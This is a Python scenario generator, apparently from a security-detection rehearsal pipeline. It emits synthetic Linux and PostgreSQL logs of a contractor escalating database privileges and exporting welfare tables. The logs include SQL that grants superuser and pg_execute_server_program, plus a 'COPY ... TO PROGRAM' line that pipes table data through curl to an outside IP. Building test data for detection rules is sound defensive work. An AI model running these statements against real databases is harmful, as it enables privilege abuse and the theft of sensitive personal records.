"""A contractor on the database server makes himself master of it and carries a table away.

T1078, T1548.003, T1098, T1048. From 22:15 at the budget department: a login by password, a refused
`sudo`, `psql` as postgres, a role raised to superuser, a table copied into a program.
"""

from __future__ import annotations

from datetime import datetime
from random import Random

from pipeline.rehearsal.lines import Draft, Trip
from pipeline.rehearsal.stories import rule_ids as rules
from pipeline.rehearsal.stories.base import Tale
from pipeline.rehearsal.wire import linux_auth, postgresql

LINUX, DATABASE = "dt-so-ngan-sach.linux_auth", "dt-so-ngan-sach.postgresql"
HOST, USER, DESK = "sns-db01", "hop.dong", "10.12.0.77"


def tell(start: datetime, rng: Random) -> list[Draft]:
    tale = Tale("database_abuse", start)
    tale.begin(22, 15)
    tale.tell(LINUX, linux_auth.accepted(tale.at, HOST, 41_207, USER, DESK, 50_122))
    tale.wait(40)
    tale.tell(
        LINUX, linux_auth.sudo_refused(tale.at, HOST, USER, "root", "/bin/bash"),
        Trip(rules.LINUX_SUDO_REFUSED, HOST),
    )  # fmt: skip
    for _ in range(2):
        tale.wait(rng.uniform(20, 60))
        tale.tell(
            LINUX, linux_auth.sudo(tale.at, HOST, USER, "postgres", "/usr/bin/psql", tty="pts/1"),
            Trip(rules.LINUX_SUDO_AS_POSTGRES, HOST),
        )  # fmt: skip
    tale.wait(15)
    tale.tell(DATABASE, postgresql.authorized(tale.at, 41_388, "postgres", "ngansach", "psql"))
    tale.wait(30)
    for sql in (
        "ALTER ROLE ngansach_doc WITH SUPERUSER LOGIN;",
        "GRANT pg_execute_server_program TO ngansach_doc;",
    ):
        tale.wait(rng.uniform(5, 30))
        tale.tell(
            DATABASE, postgresql.statement(tale.at, 41_388, "postgres", "ngansach", sql),
            Trip(rules.POSTGRESQL_ROLE_RAISED, "postgres"),
        )  # fmt: skip
    for table in ("chi_tra_an_sinh", "tai_khoan_huong"):
        tale.wait(rng.uniform(30, 90))
        sql = f"COPY {table} TO PROGRAM 'curl -s -T - http://203.0.113.120/nhan';"
        tale.tell(
            DATABASE, postgresql.statement(tale.at, 41_390, "ngansach_doc", "ngansach", sql),
            Trip(rules.POSTGRESQL_COPY_PROGRAM, "ngansach_doc"),
        )  # fmt: skip
    return tale.drafts
